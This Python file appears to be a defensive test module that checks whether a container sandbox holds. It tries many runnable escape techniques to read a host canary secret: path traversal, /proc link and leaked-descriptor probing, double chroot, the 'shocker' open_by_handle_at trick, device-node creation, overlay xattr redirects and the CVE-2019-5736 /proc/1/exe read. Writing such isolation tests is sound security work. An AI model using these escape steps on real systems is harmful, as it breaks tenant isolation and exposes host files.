# Row: a file of the host is read.
import stat

PATH, SECRET = FACTS['canary'], FACTS['secret']
ABOVE = '/..' * 60


@attack
def its_own_path():
    return holds(SECRET, 'its path', lambda: content(PATH))


@attack
def dot_dot():
    return holds(SECRET, '..', lambda: content(ABOVE + PATH))


@attack
def proc_root_and_cwd_of_every_process():
    for pid in pids():
        for link in ('root', 'cwd', f'task/{pid}/root'):
            for path in (f'/proc/{pid}/{link}{PATH}', f'/proc/{pid}/{link}{ABOVE}{PATH}'):
                holds(SECRET, path, lambda: content(path))
    return 'every link leads to this root'


@attack
def descriptors_of_every_process():
    seen = 0
    for pid in pids():
        try:
            numbers = os.listdir(f'/proc/{pid}/fd')
        except OSError:
            continue
        for number in numbers:
            path = f'/proc/{pid}/fd/{number}'
            seen += 1
            try:
                mode = os.stat(path).st_mode
            except OSError:
                continue
            # Never from a pipe: what is read there is gone for whom it was meant.
            if stat.S_ISREG(mode):
                holds(SECRET, path, lambda: content(path))
            elif stat.S_ISDIR(mode):
                for target in (path + PATH, path + ABOVE + PATH):
                    holds(SECRET, target, lambda: content(target))
    return f'{seen} descriptors, none of the host'


@attack
def leaked_descriptors():
    for fd in range(3, 1024):
        holds(SECRET, f'descriptor {fd}', lambda: os.pread(fd, 4096, 0))
        holds(SECRET, f'below descriptor {fd}', lambda: content(PATH[1:], dir_fd=fd))
    return 'none is open'


@attack
def working_directory_is_inside():
    # A directory outside of the root shows as (unreachable) (CVE-2024-21626).
    if not os.getcwd().startswith('/'):
        raise Escaped(os.getcwd())
    return holds(SECRET, 'upwards from it', lambda: content('../' * 60 + PATH[1:]))


@attack
def double_chroot():
    before = os.open('/', os.O_RDONLY)
    os.makedirs('/tmp/cell', exist_ok=True)
    try:
        os.chroot('/tmp/cell')
    except OSError as e:
        return f'chroot: {name_of(e.errno)}'
    os.fchdir(before)
    for _ in range(100):
        os.chdir('..')
    os.chroot('.')
    return holds(SECRET, 'after the second chroot', lambda: content(PATH))


@attack
def proc_root_from_a_chroot():
    os.makedirs('/tmp/cell2', exist_ok=True)
    root = os.open('/proc/self/root', os.O_PATH)
    try:
        os.chroot('/tmp/cell2')
    except OSError as e:
        return f'chroot: {name_of(e.errno)}'
    os.fchdir(root)
    return holds(SECRET, 'upwards', lambda: content('../' * 60 + PATH[1:]))


@attack
def file_handles():
    # The "shocker": files by number, past every root.
    class Handle(ctypes.Structure):
        _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('data', ctypes.c_ubyte * 128)]
    handle, mount = Handle(128), ctypes.c_int()
    named = syscall((303, 264), -100, b'/', ctypes.byref(handle), ctypes.byref(mount), 0)
    if named < 0:
        handle = Handle(8, 1)
        handle.data[0] = 2  # the root directory of an ext file system
    fd = os.open('/', os.O_RDONLY)
    result = syscall((304, 265), fd, ctypes.byref(handle), os.O_RDONLY)
    return refused('open_by_handle_at', result, errno.EPERM, errno.EOPNOTSUPP, errno.ESTALE)


def device_node(kind, numbers):
    made = []
    for directory in ('/tmp', '/dev', '/dev/shm', '/root', '/run'):
        for number in numbers:
            path = f'{directory}/lis-node'
            try:
                os.mknod(path, kind | 0o600, os.makedev(*number))
            except OSError as e:
                made.append(name_of(e.errno))
                continue
            opened = opens(path)
            os.unlink(path)
            # ENXIO says that there is no such device: the node itself would have worked.
            if opened == 0 or opened == -errno.ENXIO:
                raise Escaped(f'made and opened {path}, device {number}')
            made.append(name_of(-opened))
    return 'mknod: ' + ', '.join(sorted(set(made)))


@attack
def block_devices():
    return device_node(stat.S_IFBLK, [(8, 0), (254, 0), (259, 0), (7, 0)])


@attack
def character_devices():
    return device_node(stat.S_IFCHR, [(1, 1), (1, 4), (10, 200), (10, 229), (10, 237)])


@attack
def symlink_into_the_host():
    link = '/tmp/lis-link'
    try:
        os.symlink(ABOVE + PATH, link)
    except FileExistsError:
        pass
    return holds(SECRET, 'a symbolic link', lambda: content(link))


@attack
def mounts_show_no_host_directory():
    for line in open('/proc/self/mountinfo'):
        fields = line.split()
        kind = fields[fields.index('-') + 1]
        device = fields[3].strip('/') in ('null', 'zero', 'full', 'random', 'urandom', 'tty')
        if kind not in ('overlay', 'proc', 'tmpfs', 'devpts') and not device:
            raise Escaped(f'{kind} on {fields[4]} shows {fields[3]}')
    return 'overlay, proc, tmpfs, devpts and single device nodes'


@attack
def overlay_attributes():
    # An overlay that took these would show another lower directory, or hide one.
    tried = []
    os.makedirs('/tmp/lis-ovl/in', exist_ok=True)
    for name in ('trusted.overlay.redirect', 'trusted.overlay.opaque', 'trusted.overlay.metacopy'):
        try:
            os.setxattr('/tmp/lis-ovl/in', name, b'/../../etc')
            raise Escaped(f'set {name}')
        except OSError as e:
            tried.append(f'{name}: {name_of(e.errno)}')
    for name in ('user.overlay.redirect', 'user.overlay.opaque'):
        try:
            os.setxattr('/tmp/lis-ovl/in', name, b'/../../etc')
            os.listdir('/tmp/lis-ovl/in')
            holds(SECRET, 'below a redirected directory', lambda: content('/tmp/lis-ovl/in' + PATH))
            tried.append(f'{name} means nothing to the mount')
        except OSError as e:
            tried.append(f'{name}: {name_of(e.errno)}')
    return '; '.join(tried)


@attack
def program_of_pid_1():
    # CVE-2019-5736 begins with reading, and /proc/1/root with the same right.
    for link in ('exe', 'root', 'cwd', 'map_files', 'ns/mnt'):
        path = f'/proc/1/{link}'
        try:
            target = os.readlink(path) if link != 'map_files' else str(os.listdir(path))
        except OSError:
            continue
        if link == 'exe' or MINE:
            raise Escaped(f'{path} is {target}')
    return 'no link of PID 1 can be read'


main()
